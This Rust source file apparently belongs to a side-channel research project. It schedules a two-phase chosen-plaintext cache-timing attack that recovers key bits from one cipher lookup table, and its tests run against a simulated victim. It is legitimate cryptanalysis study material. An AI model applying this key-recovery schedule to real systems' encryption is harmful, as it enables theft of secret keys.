//! Attack orchestration: chosen-plaintext schedule for one lookup table.
//!
//! The two-phase schedule mirrors the dependency between the voters:
//! the anchor byte's traces are collected and evaluated first, and only
//! then can dependent traces be anchored at known table offsets.

use crate::hitmap::RecordClass;
use crate::lut::LutHypothesis;
use crate::sim::TraceSource;

/// Table offsets the anchor byte is parked at while a dependent byte is
/// moved. Mid-table positions leave headroom for the dependent line to
/// move by up to 8 lines in either direction.
pub const DEPENDENT_ANCHOR_OFFSETS: [u8; 4] = [6, 7, 8, 9];

/// Runs the full two-phase attack against one lookup table and returns
/// the populated hypothesis state.
///
/// Phase 1 sweeps the anchor plaintext byte through all 16 upper-nibble
/// values and resolves the anchor byte's bits pairwise. Phase 2 pins
/// the anchor at the offsets in [`DEPENDENT_ANCHOR_OFFSETS`] (relative
/// to the resolved anchor hypothesis), flips each upper-nibble bit of
/// each dependent byte in turn, and confirms the moved line against the
/// anchor traces.
pub fn run_lut_attack<S: TraceSource>(positions: [usize; 4], source: &mut S) -> LutHypothesis {
    let mut lut = LutHypothesis::new(positions);
    let anchor_pos = lut.anchor_pos();
    let mut plaintext = [0u8; 16];

    // Phase 1: move the anchor byte across all 16 cache lines.
    for nibble in 0..=0x0fu8 {
        plaintext[anchor_pos] = nibble << 4;
        let map = source.collect_trace(&positions, &plaintext);
        lut.add_record(RecordClass::Anchor, anchor_pos, plaintext, map);
    }
    lut.evaluate_anchor();

    // Phase 2: park the anchor at known offsets and move each dependent
    // byte one upper-nibble bit at a time.
    let anchor_hyp = lut.resolve(0);
    let anchor_pt_values = DEPENDENT_ANCHOR_OFFSETS.map(|offset| anchor_hyp ^ (offset << 4));

    for dep_idx in 1..4 {
        let dep_pos = positions[dep_idx];
        for bit in 4..8 {
            plaintext[dep_pos] ^= 1 << bit;
            for &anchor_pt in &anchor_pt_values {
                plaintext[anchor_pos] = anchor_pt;
                let map = source.collect_trace(&positions, &plaintext);
                lut.add_record(RecordClass::Dependent, dep_pos, plaintext, map);
            }
            plaintext[dep_pos] ^= 1 << bit;
        }
    }
    lut.evaluate_dependent();

    lut
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sim::SimulatedVictim;

    #[test]
    fn test_phase_schedule_record_counts() {
        let key = [0u8; 16];
        let mut victim = SimulatedVictim::new(key, 10, 0.0, 1);
        let lut = run_lut_attack([0, 4, 8, 12], &mut victim);
        assert_eq!(lut.records(RecordClass::Anchor).len(), 16);
        // 3 dependent bytes x 4 bits x 4 anchor offsets.
        assert_eq!(lut.records(RecordClass::Dependent).len(), 48);
    }

    #[test]
    fn test_dependent_plaintexts_differ_single_bit_from_anchor_phase() {
        let key = [0u8; 16];
        let mut victim = SimulatedVictim::new(key, 10, 0.0, 1);
        let lut = run_lut_attack([5, 9, 13, 1], &mut victim);
        for dep in lut.records(RecordClass::Dependent) {
            for anchor in lut.records(RecordClass::Anchor) {
                let diff = (anchor.plaintext[dep.moved_pos] ^ dep.plaintext[dep.moved_pos]) & 0xf0;
                assert_eq!(diff.count_ones(), 1, "schedule must keep pairs one bit apart");
            }
        }
    }
}
